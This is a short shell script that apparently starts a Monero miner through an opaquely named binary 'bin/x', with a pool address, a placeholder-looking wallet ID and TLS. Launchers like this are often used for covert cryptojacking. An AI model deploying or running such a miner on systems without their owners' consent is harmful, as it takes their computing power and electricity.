#!/bin/sh
bin/x --url=203.0.113.9:443 --user=4Ax7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9x7Q2mZ9bb.w1 --tls --coin=monero
